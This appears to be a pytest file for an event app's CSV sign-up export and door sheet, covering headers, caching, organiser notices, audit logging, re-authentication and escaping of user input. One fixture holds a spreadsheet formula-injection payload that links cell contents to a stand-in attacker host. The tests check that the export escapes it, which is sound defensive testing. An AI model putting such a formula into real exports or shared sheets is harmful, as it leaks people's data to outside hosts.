"""The list of an event to take along: as a file, and on paper for the door."""

import csv
import re
from datetime import timedelta
from io import StringIO

import factories
import pytest
from desks import member
from front_door import send, sign_in
from lists import enlist, make_sessions_older, path

from campaign.database import transaction
from campaign.events.models import Question, QuestionKind
from campaign.organisers.models import Role

HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"x")'


@pytest.fixture
def event(client):
    """An event with some people; the client is an organiser of its group."""
    event = factories.event()
    enlist(event, "Zoë", "zoe@example.org", party_size=2)
    enlist(event, HOSTILE, "+tag@example.org", is_added_by_hand=True)
    enlist(event, 'Bo, "the 2nd"', "bo@example.org", "cancelled")
    member(client, event.group)
    return event


def export(client, event, **answers):
    return send(client, path(event, "/export"), **answers)


def cells(answer):
    assert answer.status_code == 200
    text = answer.data.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


def test_the_file_has_those_who_were_chosen_by_name(client, event):
    answer = export(client, event, state="")
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert cells(answer) == [
        [
            "Name",
            "E-mail address",
            "People",
            "Where it stands",
            "Signed up on",
            "Address confirmed on",
            "Added by hand",
        ],
        [
            f"'{HOSTILE}",
            "'+tag@example.org",
            "1",
            "Going",
            "2026-03-02",
            "2026-03-02",
            "Yes",
        ],
        [
            'Bo, "the 2nd"',
            "bo@example.org",
            "1",
            "Cancelled",
            "2026-03-02",
            "",
            "No",
        ],
        ["Zoë", "zoe@example.org", "2", "Going", "2026-03-02", "2026-03-02", "No"],
    ]


def test_those_who_left_are_in_no_file_unless_they_are_wanted(client, event):
    assert len(cells(export(client, event))) == 3


def test_the_file_is_kept_by_nobody_on_its_way(client, event):
    headers = export(client, event).headers
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Cache-Control"] == "no-store"
    assert headers["Content-Disposition"] == (
        f'attachment; filename="{event.slug}-sign-ups.csv"'
    )


def test_looking_at_the_page_takes_nothing_out(client, event, outbox):
    page = client.get(path(event, "/export"))
    assert "zoe@example.org" not in page.text
    assert "Nothing was done" in client.get(f"/manage/events/{event.slug}/log").text
    assert len(outbox) == 0


def test_the_other_organisers_are_told_and_it_stands_in_the_log(
    app, client, event, outbox
):
    for role in Role:
        factories.membership(
            factories.organiser(email=f"{role}@example.org"), event.group, role
        )
    export(client, event)
    assert {mail.recipient for mail in outbox} == {
        "owner@example.org",
        "organiser@example.org",
    }
    assert "with 2 sign-ups" in outbox[0].body_text
    log = re.search(r"https?://[^/]+(/manage/\S+/log)", outbox[0].body_text)[1]
    assert "List taken out as a file" in client.get(log.split("?")[0]).text


def test_a_file_asks_for_a_sign_in_that_is_fresh(client, event):
    form = client.get(path(event, "/export")).text
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', form)[1]
    make_sessions_older()
    for answer in (
        client.get(path(event, "/export")),
        client.post(path(event, "/export"), data={"csrf_token": token, "state": ""}),
    ):
        assert answer.status_code == 303
        assert answer.location.startswith("/sign-in?")
        assert f"next={path(event, '/export')}" in answer.location.replace("%2F", "/")
    asked = client.get(answer.location)
    assert asked.status_code == 200
    assert "your last sign-in is more than 15 minutes old" in asked.text


def test_the_way_over_the_sign_in_leads_back_to_the_file(client, outbox):
    organiser = factories.organiser(email="kim@example.org")
    event = factories.event()
    factories.membership(organiser, event.group, Role.OWNER)
    enlist(event, "Zoë")
    sign_in(client, organiser)
    make_sessions_older()
    asked = client.get(path(event, "/export")).location
    sent = client.post(asked, data={"email": "kim@example.org"})
    assert "Look into your mail" in sent.text
    sent.close()
    link = re.search(r"http://localhost(/sign-in/\S+)", outbox[0].body_text)[1]
    back = client.post(link)
    assert back.location.split("?")[0] == path(event, "/export")
    assert len(cells(export(client, event))) == 2


def test_a_sign_in_of_a_moment_ago_is_fresh(client, event):
    make_sessions_older(timedelta(minutes=14))
    assert export(client, event).mimetype == "text/csv"


def test_an_empty_list_is_no_file(client):
    event = factories.event()
    member(client, event.group)
    page = client.get(path(event, "/export")).text
    assert "Nobody is on the list." in page
    assert "Download" not in page


def test_the_sheet_has_names_and_parties_and_no_address(client, event):
    enlist(event, "Here already", "here@example.org", "attended", 3)
    page = client.get(path(event, "/sheet")).text
    rows = re.findall(r'<th scope="row"><bdi>(.*?)</bdi></th><td>(\d+)</td>', page)
    assert [number for _name, number in rows] == ["1", "3", "2"]
    assert [name for name, _number in rows][1:] == ["Here already", "Zoë"]
    assert "6 people expected" in page
    assert "@example.org" not in page
    assert page.count("✓") == 1


def test_what_people_answered_is_in_the_file_and_on_their_page(client, event):
    with transaction() as session:
        options = [{"key": "a", "label": "By train"}, {"key": "b", "label": "On foot"}]
        asked = [
            Question(event_id=event.id, kind=kind, label=label, options=of)
            for kind, label, of in (
                (QuestionKind.CHOICES, "How do you come?", options),
                (QuestionKind.YES_NO, "Do you bring a drum?", []),
                (QuestionKind.TEXT, "What do you need?", []),
            )
        ]
        session.add_all(asked)
    answers = zip(asked, (["a", "b"], False, "=a chair"), strict=True)
    given = {str(question.uid): answer for question, answer in answers}
    number = enlist(event, "Noor", answers=given).id
    page = client.get(path(event, f"/{number}")).text
    for words in ("How do you come?", "By train, On foot", "=a chair"):
        assert words in page
    header, *people = cells(export(client, event))
    assert header[-3:] == [question.label for question in asked]
    assert people[1][-3:] == ["By train, On foot", "No", "'=a chair"]
    assert people[2][-3:] == ["", "", ""]
